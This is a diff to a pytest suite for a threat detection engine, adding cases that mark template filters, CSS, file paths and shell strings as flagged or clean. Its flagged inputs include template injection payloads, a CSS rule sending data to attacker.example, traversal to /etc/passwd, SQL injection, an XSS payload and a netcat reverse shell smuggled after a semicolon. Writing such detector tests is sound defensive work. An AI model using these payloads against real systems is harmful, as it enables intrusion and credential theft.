@@ -995,7 +995,10 @@ def test_look_alikes_of_the_new_techniques_stay_clean(engine: DetectionEngine, v
         ('{{ "a"|center:999999999 }} {{ x }}', True),
         ('{{ x | plus: "5" }}{{ y }}', True),
         ('{{ x|groupby("__class__") }}{{ y }}', True),
-        ("{{ x|round(2) }}{{ y }}", True),
+        # Rounding to a precision prints none of its digits (session 15); adding prints them.
+        ("{{ x|round(2) }}{{ y }}", False),
+        ("{{ x|add:733 }}{{ y }}", True),
+        ("{{ x|round(2, 999999) }}{{ y }}", True),
         ("SELECT name FROM users WHERE name = 'a' OR -1=-1", True),
         ("query [DELETE FROM users WHERE id > 0]", True),
         ("<svg onload=alert(1)>", True),
@@ -1741,7 +1744,7 @@ def test_a_greeting_line_keeps_a_message_prose() -> None:
     "value",
     [
         "wget -r -np -k https://docs.example.org/manual/ -o /home/me/mirror.log",
-        "curl -L https://docs.example.org/guide.pdf -o /home/me/guide.pdf",
+        "curl -L -o /home/me/guide.pdf https://docs.example.org/guide.pdf",
         "wget --mirror https://www.example.org/docs/ -P /srv/mirror",
     ],
 )
@@ -2034,3 +2037,29 @@ def test_spelled_commands_stages_and_wiki_lookalikes(
 ])
 def test_wiki_markup_algebra_and_prose_stay_clean(engine: DetectionEngine, value: str) -> None:
     assert not engine.detect(value)["is_threat"]
+
+
+@pytest.mark.parametrize(("value", "flagged"), [
+    # Template and e-mail source from bait 18: rounding to a precision, Liquid's section tag,
+    # Jinja's attribute map and number format, and an e-mail's layout CSS.
+    ("<tr><td>{{ loop.index }}.</td><td>{{ row.name|title }}</td>"
+     "<td>{{ row.score|round(1) }}</td></tr>", False),
+    ("{{ content_for_header }}\n{% section 'announcement-bar' %}", False),
+    ("{% set total = items|map(attribute='price')|sum %}Total: {{ '%.2f'|format(total) }}",
+     False),
+    ("<style>@media only screen and (max-width:600px){ .col { width:100% !important; } }"
+     "</style>", False),
+    ("images/../avatar.png", False),
+    # The same filters and elements reaching code, loading or hiding the page.
+    ("{{ items|map(attribute='__class__') }}", True),
+    ("{{ ['id']|map('system')|join }}", True),
+    ('{{ "%c%c"|format(95, 95) }}', True),
+    ("<style>input[value^=a]{background:url(https://attacker.example/a)}</style>", True),
+    ("<style>html{visibility:hidden}</style>", True),
+    ("images/../../../etc/passwd", True),
+    ("x;nc.traditional -c bash 10.0.0.1 4444", True),
+])
+def test_template_filters_styles_and_steps_that_stay_inside(
+    engine: DetectionEngine, value: str, flagged: bool
+) -> None:
+    assert engine.detect(value)["is_threat"] is flagged
